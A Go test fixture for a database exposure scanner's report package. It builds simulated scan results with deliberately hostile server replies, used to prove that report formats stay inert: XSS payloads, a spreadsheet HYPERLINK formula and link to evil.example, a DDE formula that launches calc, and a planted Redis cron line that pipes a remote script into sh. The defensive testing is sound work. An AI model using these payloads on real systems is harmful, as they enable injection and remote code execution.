package report_test

import (
	"net/netip"
	"time"

	"github.com/gownscan/gown"
	"github.com/gownscan/gown/assess"
	"github.com/gownscan/gown/internal/testbed"
	"github.com/gownscan/gown/report"
	"github.com/gownscan/gown/traffic"
)

// fixtureEntry is one result as the results store hands it to a report.
type fixtureEntry struct {
	r  *gown.Result
	fs []gown.Finding
}

// fixtureStart fixes every time in the fixture so reports are byte-stable.
var fixtureStart = time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

// fixtureMeta describes the fixture scan.
func fixtureMeta() report.ScanMeta {
	return report.ScanMeta{ID: "42", Started: fixtureStart, Finished: fixtureStart.Add(3*time.Minute + 12*time.Second),
		Command: "gown scan -l backends.txt --ports 6379,3306,5432,9200", Version: "0.4.0"}
}

// hostile is text a malicious server sends back, to prove every format keeps
// it inert: markup, a table-breaking pipe, a spreadsheet formula, a link.
const hostile = `"><script>alert('gown')</script><img src=x onerror=alert(1)> | =HYPERLINK("https://evil.example/x","click") [pwn](https://evil.example/)`

// fixture builds the results of a small realistic scan, in the order the
// results store walks them (host, port), analysed and graded by assess as
// a scan does: an open Redis with session tokens and a planted cron job, an
// open MariaDB logged into as root with customers' personal data, a
// PostgreSQL that asks for a password over plain text, a Redis whose ACL
// refuses this client, a ransomed open Elasticsearch whose replies carry
// hostile text, an unplaceable service, a hostile CouchDB, a MongoDB whose
// sizes cannot hold its counts and an empty open memcached.
func fixture() []fixtureEntry {
	out := append(append(fixtureSQLAndRedis(), fixtureHostile()...), fixtureStaged()...)
	// Standalone findings come first, as the results store walks them:
	// an app's own code, then an address answering as many stores.
	var ms assess.MultiStore
	for i, store := range []string{"redis", "mongodb", "elasticsearch"} {
		// Three stores on one public address: the honeypot tell.
		ms.Add(&gown.Result{Target: target("203.0.113.7", "203.0.113.7", 6379+i), Store: store, Status: gown.StatusOpen})
	}
	entries := []fixtureEntry{{fs: assess.AppFindings(fixtureApp())}, {fs: fixtureTraffic().Findings()}}
	for _, f := range ms.Findings() {
		entries = append(entries, fixtureEntry{fs: []gown.Finding{f}})
	}
	for _, r := range out {
		entries = append(entries, fixtureEntry{r: r, fs: assess.Findings(r)})
	}
	return entries
}

// at is the start of the i-th probe of the fixture scan.
func at(i int) time.Time { return fixtureStart.Add(time.Duration(i) * 7 * time.Second) }

func target(host, ip string, port int) gown.Target {
	return gown.Target{Host: host, Addr: netip.MustParseAddr(ip), Port: port, Origin: "file"}
}

// fixtureSQLAndRedis: the open Redis and MariaDB, the password-asking
// PostgreSQL and the ACL-restricted Redis.
func fixtureSQLAndRedis() []*gown.Result {
	var out []*gown.Result

	redisOpen := &gown.Result{Target: target("cache.shop-api.example", "127.0.0.11", 6379), Store: "redis", Product: "Redis",
		Version: "7.0.15", Status: gown.StatusOpen, Reason: "INFO answered without AUTH", TLS: gown.TLS{Mode: gown.TLSNone},
		Start: at(0), Duration: 41 * time.Millisecond,
		Evidence: []gown.Evidence{{Step: "INFO", Sent: `*1\r\n$4\r\nINFO\r\n`,
			Received: `$5821\r\n# Server\r\nredis_version:7.0.15\r\nredis_mode:standalone\r\nos:Linux 6.1.0-18-amd64 x86_64\r\n…`}}}
	redisOpen.Detail("redis_mode", "standalone")
	redisOpen.Inventory = &gown.Inventory{}
	redisOpen.Inventory.Add(gown.Database{Name: "db0", Items: 18412})
	redisOpen.Inventory.Add(gown.Database{Name: "db2", Items: 311})
	redisOpen.Inventory.Bytes = 24_117_248 // used_memory wins for Redis
	assess.Analyze(redisOpen, []gown.Sample{
		{Database: "db0", Key: "session:u1001", Fields: []gown.Field{{Value: testbed.People[0].Token}}},
		{Database: "db0", Key: "session:u1002", Fields: []gown.Field{{Value: testbed.People[1].Token}}},
		{Database: "db0", Key: "backup1", Fields: []gown.Field{{Value: "\n\n*/1 * * * * curl -fsSL http://198.51.100.9/init.sh | sh\n\n"}}},
		{Database: "db2", Key: "cart:7", Fields: []gown.Field{{Value: `{"sku":"MUG-CER-350-BLU","qty":2}`}}},
	}, false)
	out = append(out, redisOpen)

	maria := &gown.Result{Target: target("db.shop-api.example", "127.0.0.12", 3306), Store: "mysql", Product: "MariaDB",
		Version: "10.11.6-MariaDB-0+deb12u1", Status: gown.StatusOpen, Reason: "root logged in with an empty password",
		TLS: gown.TLS{Mode: gown.TLSNone}, Start: at(1), Duration: 63 * time.Millisecond,
		Evidence: []gown.Evidence{
			{Step: "greeting", Received: `[greeting] protocol 10, server 10.11.6-MariaDB-0+deb12u1, auth mysql_native_password`},
			{Step: "login root", Sent: `[login] user root, empty password`, Received: `OK`},
			{Step: "inventory", Sent: `SELECT table_schema, SUM(table_rows), SUM(data_length+index_length) FROM information_schema.tables GROUP BY 1`,
				Received: `crm 2204 1867776 | shop 96310 40681472 | mysql 3104 2523136`},
		}}
	maria.Inventory = &gown.Inventory{}
	maria.Inventory.Add(gown.Database{Name: "crm", Items: 2204, Bytes: 1_867_776})
	maria.Inventory.Add(gown.Database{Name: "shop", Items: 96_310, Bytes: 40_681_472})
	maria.Inventory.Add(gown.Database{Name: "mysql", Items: 3104, Bytes: 2_523_136, System: true})
	maria.Detail("login", "root with empty password")
	maria.Facts.Admin = "the root account logs in with an empty password" // as probe/mysql sets it
	var customers []gown.Sample
	for _, p := range testbed.People {
		s := gown.Sample{Database: "crm", Collection: "customers", Key: p.ID}
		for _, f := range p.Fields() {
			s.Fields = append(s.Fields, gown.Field{Path: f[0], Value: f[1]})
		}
		customers = append(customers, s)
	}
	customers = append(customers, gown.Sample{Database: "shop", Collection: "products", Key: "1",
		Fields: []gown.Field{{Path: "sku", Value: "MUG-CER-350-BLU"}, {Path: "name", Value: "Ceramic Mug"}, {Path: "price", Value: "12.90"}}})
	assess.Analyze(maria, customers, true)
	out = append(out, maria)

	out = append(out, &gown.Result{Target: target("db.shop-api.example", "127.0.0.12", 5432), Store: "postgres",
		Product: "PostgreSQL", Status: gown.StatusAuthRequired, Reason: "server asks for a SCRAM-SHA-256 password",
		TLS: gown.TLS{Mode: gown.TLSNone}, Start: at(2), Duration: 12 * time.Millisecond,
		Evidence: []gown.Evidence{
			{Step: "SSLRequest", Sent: `[SSLRequest]`, Received: `N`},
			{Step: "startup postgres", Sent: `[startup] user=postgres database=postgres`, Received: `[AuthenticationSASL] SCRAM-SHA-256`},
		}})

	out = append(out, &gown.Result{Target: target("queue.shop-api.example", "127.0.0.13", 6379), Store: "redis",
		Product: "Redis", Status: gown.StatusRestricted, Reason: "INFO refused by an ACL: -NOPERM",
		TLS: gown.TLS{Mode: gown.TLSNone}, Start: at(3), Duration: 9 * time.Millisecond,
		Evidence: []gown.Evidence{{Step: "INFO", Sent: `*1\r\n$4\r\nINFO\r\n`,
			Received: `-NOPERM User default has no permissions to run the 'info' command\r\n`}}})

	return out
}

// fixtureHostile: the ransomed Elasticsearch, an unplaceable service and a
// CouchDB whose replies are hostile.
func fixtureHostile() []*gown.Result {
	var out []*gown.Result
	es := &gown.Result{Target: target("search.shop-api.example", "127.0.0.14", 9200), Store: "elasticsearch",
		Product: "Elasticsearch", Version: "7.10.2", Status: gown.StatusOpen, Reason: "GET /_cat/indices answered without credentials",
		TLS: gown.TLS{Mode: gown.TLSNone}, Start: at(4), Duration: 88 * time.Millisecond,
		Evidence: []gown.Evidence{
			{Step: "GET /", Sent: `GET / HTTP/1.1\r\nHost: search.shop-api.example:9200\r\n\r\n`,
				Received: `HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n\r\n{"name":"es01","cluster_name":"` + hostile + `","version":{"number":"7.10.2"}}`},
			{Step: "GET /_cat/indices?format=json&bytes=b", Sent: `GET /_cat/indices?format=json&bytes=b HTTP/1.1\r\n\r\n`,
				Received: `HTTP/1.1 200 OK\r\n\r\n[{"index":"read_me","docs.count":"1","store.size":"5321"},{"index":"customers","docs.count":"151022"…`},
		}}
	es.Detail("cluster_name", hostile)
	es.Inventory = &gown.Inventory{}
	es.Inventory.Add(gown.Database{Name: "customers", Items: 151_022, Bytes: 512_882_114})
	es.Inventory.Add(gown.Database{Name: "orders-2026.03", Items: 48_870, Bytes: 96_004_331})
	es.Inventory.Add(gown.Database{Name: "read_me", Items: 1, Bytes: 5321})
	es.Inventory.Add(gown.Database{Name: "<img src=x onerror=alert('index')>|x", Items: 3, Bytes: 912})
	es.Inventory.Add(gown.Database{Name: ".kibana_1", Items: 12, Bytes: 61_440, System: true})
	assess.Analyze(es, []gown.Sample{
		{Database: "read_me", Collection: "_doc", Key: "1", Fields: []gown.Field{{Path: "message", Value: testbed.RansomMessage}}},
		{Database: "customers", Collection: "_doc", Key: "c-88", Fields: []gown.Field{{Path: "contact.email", Value: testbed.People[2].Email},
			{Path: "contact.phone", Value: testbed.People[2].Phone}, {Path: "geo.lat", Value: testbed.People[2].Lat}, {Path: "geo.lon", Value: testbed.People[2].Lon}}},
	}, false)
	out = append(out, es)

	out = append(out, &gown.Result{Target: target("search.shop-api.example", "127.0.0.14", 9300), Status: gown.StatusUnknown,
		Reason: "something answered that no prober could place", Start: at(5), Duration: 3 * time.Second,
		Evidence: []gown.Evidence{{Step: "banner", Received: hostile}}})

	// A hostile server controls its version string and what the prober quotes
	// of its replies in Reason.
	couch := &gown.Result{Target: target("sync.shop-api.example", "127.0.0.15", 5984), Store: "couchdb", Product: "CouchDB",
		Version: `=2+5+cmd|' /C calc'!A0`, Status: gown.StatusOpen,
		Reason: `GET /_all_dbs answered without credentials; server says "` + hostile + `"`,
		TLS:    gown.TLS{Mode: gown.TLSNone}, Start: at(6), Duration: 20 * time.Millisecond,
		Evidence: []gown.Evidence{{Step: "GET /_all_dbs", Sent: `GET /_all_dbs HTTP/1.1\r\n\r\n`,
			Received: `HTTP/1.1 200 OK\r\n\r\n["_users","` + hostile + `"]`}}}
	couch.Inventory = &gown.Inventory{}
	couch.Inventory.Add(gown.Database{Name: hostile, Items: 77, Bytes: 131_072})
	out = append(out, couch)
	return out
}

// fixtureStaged: a MongoDB whose sizes cannot hold its counts (a honeypot
// sign) and an open memcached holding nothing.
func fixtureStaged() []*gown.Result {
	mongo := &gown.Result{Target: target("legacy.shop-api.example", "127.0.0.16", 27017), Store: "mongodb", Product: "MongoDB",
		Version: "7.0.14", Status: gown.StatusOpen, Reason: "listDatabases answered without authentication",
		TLS: gown.TLS{Mode: gown.TLSNone}, Start: at(7), Duration: 15 * time.Millisecond,
		Evidence: []gown.Evidence{{Step: "listDatabases", Sent: `[OP_MSG] {listDatabases: 1, $db: "admin"}`,
			Received: `{databases: [{name: "users", sizeOnDisk: 2048}], totalSize: 2048, ok: 1}`}}}
	mongo.Inventory = &gown.Inventory{}
	mongo.Inventory.Add(gown.Database{Name: "users", Items: 90_000, Bytes: 2048})
	assess.Analyze(mongo, nil, false)

	mc := &gown.Result{Target: target("legacy.shop-api.example", "127.0.0.16", 11211), Store: "memcached", Product: "memcached",
		Version: "1.6.21", Status: gown.StatusOpen, Reason: "stats answered without SASL", TLS: gown.TLS{Mode: gown.TLSNone},
		Start: at(8), Duration: 4 * time.Millisecond,
		Evidence: []gown.Evidence{{Step: "stats", Sent: `stats\r\n`, Received: `STAT pid 812\r\nSTAT curr_items 0\r\n…`}}}
	mc.Inventory = &gown.Inventory{}
	mc.Inventory.Add(gown.Database{Name: "cache", Items: 0, Bytes: 0})
	assess.Analyze(mc, nil, false)
	return []*gown.Result{mongo, mc}
}

// fixtureApp is an app whose code holds credentials and allows clear
// text: what assess.AppFindings grades.
func fixtureApp() *gown.App {
	at := func(entry, section string, off int64) []gown.Source {
		return []gown.Source{{Container: "build/shop.apk", Entry: entry, Section: section, Offset: off}}
	}
	return &gown.App{ID: "com.example.shop", File: "build/shop.apk",
		Credentials: []gown.Credential{{Rule: "conn-string-password", Value: "[REDACTED]", Host: "db.shop-api.example",
			Sources: at("assets/config.json", "", 118)}},
		Endpoints: []gown.Endpoint{{Kind: gown.KindURL, Value: "http://api.shop-api.example/v1/", Scheme: "http",
			Host: "api.shop-api.example", Port: 80, FirstParty: true, Confidence: 0.9, Sources: at("classes.dex", "dex strings", 40960)}},
		Cleartext: []gown.Cleartext{{Policy: "base cleartextTrafficPermitted=true", Endpoints: []string{"http://api.shop-api.example/v1/"}}}}
}

// fixtureTraffic is what gown traffic read from a capture: an HTTP API
// carrying personal data and a Basic password in clear, a Redis spoken to
// in clear with AUTH, a first-party API in clear with nothing sensitive,
// and a TLS back end (no finding).
func fixtureTraffic() *traffic.Report {
	seen := traffic.Where{File: "captures/app.pcapng", Packet: 14, Offset: 2212}
	return &traffic.Report{
		Backends: []traffic.Backend{
			{Host: "api.shop-api.example", Addr: "127.0.0.21", Port: 80, Protocol: "http", Cleartext: true, FirstParty: true, Flows: 3, Seen: seen,
				Classes: []gown.ClassCount{{Class: "email", Records: 2, Examples: []string{"a***@m***.test"}}, {Class: "phone", Records: 1}}},
			{Host: "cache.shop-api.example", Addr: "127.0.0.11", Port: 6379, Protocol: "redis", Store: "redis", Cleartext: true, FirstParty: true, Flows: 1, Seen: seen},
			{Host: "img.shop-api.example", Addr: "127.0.0.22", Port: 8080, Protocol: "http", Cleartext: true, FirstParty: true, Flows: 4, Seen: seen},
			{Host: "secure.shop-api.example", Addr: "127.0.0.23", Port: 443, Protocol: "tls", TLS: true, FirstParty: true, Flows: 2, Seen: seen},
		},
		Credentials: []traffic.Credential{
			{Kind: "http-basic", User: "shopper", Secret: "[REDACTED]", Backend: "api.shop-api.example:80", Where: seen},
			{Kind: "redis-auth", Secret: "[REDACTED]", Detail: "password in clear", Backend: "cache.shop-api.example:6379", Where: traffic.Where{File: "captures/app.pcapng", Packet: 31, Offset: 5120}},
		},
	}
}
